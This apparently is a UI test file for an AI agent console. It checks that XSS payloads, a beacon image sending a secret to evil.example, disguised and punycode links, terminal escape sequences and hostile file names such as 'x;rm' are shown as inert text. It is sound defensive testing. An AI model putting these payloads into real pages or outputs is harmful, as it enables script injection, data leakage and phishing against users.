import { expect, finish, log, panel, run, task, test } from './deft';

// The fixture of the page fails every test in which the page asks another host,
// runs what its policy forbids, or throws.

test('markup, beacons and misleading links of the model are text', async ({ deft, page }) => {
  const dialogs: string[] = [];
  page.on('dialog', (d) => (dialogs.push(d.message()), void d.dismiss()));
  await task(
    deft,
    page,
    [
      finish(
        [
          '<script>alert(1)</script><img src=x onerror=alert(2)><iframe srcdoc="<script>alert(3)</script>"></iframe>',
          '![beacon](https://evil.example/pixel.png?secret=1)',
          '[click](javascript:alert(4)) [data](data:text/html,<script>alert(5)</script>)',
          '<style>body{display:none}</style><a href="https://evil.example" style="position:fixed;inset:0">cover</a>',
          '[https://github.com/login](https://evil.example/login)',
          '[аpple](https://xn--pple-43d.com/)',
          '[ref][r]\n\n[r]: https://evil.example/ref "t"',
        ].join('\n\n'),
      ),
    ],
    'Show me <b>markup</b>',
  );
  const said = log(page).locator('.message.agent').last();
  await expect(said).toContainText('<script>alert(1)</script>');
  await expect(log(page).locator('.user-text')).toHaveText('Show me <b>markup</b>');
  await expect(log(page).locator('script, iframe, img, style, [style*=fixed]')).toHaveCount(0);
  await expect(said.locator('a[href^="javascript"], a[href^="data"]')).toHaveCount(0);
  await expect(said.getByRole('link', { name: /github.com/ })).toHaveAttribute('data-host', 'evil.example');
  await expect(said.locator('a[href*="xn--pple"]')).toHaveAttribute('data-host', 'xn--pple-43d.com');
  for (const link of await said.locator('a[href]').all()) {
    await expect(link).toHaveAttribute('rel', 'noopener noreferrer');
    await expect(link).toHaveAttribute('target', '_blank');
  }
  expect(dialogs).toEqual([]);
});

test('escape sequences, long lines and large outputs of commands do no harm', async ({ deft, page }) => {
  await task(
    deft,
    page,
    [
      { reply: { tool_calls: [run('printf "\\033]0;owned\\007\\033[2J\\033]8;;https://evil.example\\007link\\033]8;;\\007\\033[31mred\\033[0m<script>alert(1)</script>\\r\\n"')] } },
      { reply: { tool_calls: [run('yes "0123456789012345678901234567890123456789" | head -c 20000000')] } },
      { reply: { tool_calls: [run('head -c 100000 /dev/zero | tr "\\0" a')] } },
      finish('All done.'),
    ],
    'Print much',
  );
  await expect(log(page).getByText('All done.')).toBeVisible();
  await expect(page).not.toHaveTitle(/owned/);
  // From the last one on: rows far above the one that was opened are not drawn.
  for (const line of (await log(page).locator('.action-line').all()).reverse()) await line.click();
  await expect(log(page).locator('.output').first()).toContainText('<script>alert(1)</script>');
  await expect(log(page).locator('.output script, .output a')).toHaveCount(0);
  const { wide, box } = await page.evaluate(() => ({ wide: document.documentElement.scrollWidth, box: window.innerWidth }));
  expect(wide).toBeLessThanOrEqual(box);
});

test('files of the workspace with hostile names and contents are shown as text', async ({ deft, page }) => {
  await task(
    deft,
    page,
    [{ reply: { tool_calls: [run("touch -- '<img src=x onerror=alert(1)>' $'a\\nb' '-rf' 'x;rm' && printf '<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>' > pic.svg")] } }, finish('Made.')],
    'Make files',
  );
  await expect(log(page).getByText('Made.')).toBeVisible();
  await panel(page, 'Files').click();
  const list = page.locator('.file-list');
  await expect(list).toContainText('<img src=x onerror=alert(1)>');
  await expect(list.locator('img')).toHaveCount(0);
  await page.getByRole('button', { name: /^pic.svg/ }).click();
  await expect(page.getByRole('img', { name: 'pic.svg' })).toHaveAttribute('src', /^data:image\/svg/);
  await page.getByRole('button', { name: 'Source' }).click();
  await expect(page.getByRole('region', { name: 'pic.svg' })).toContainText('onload');
});
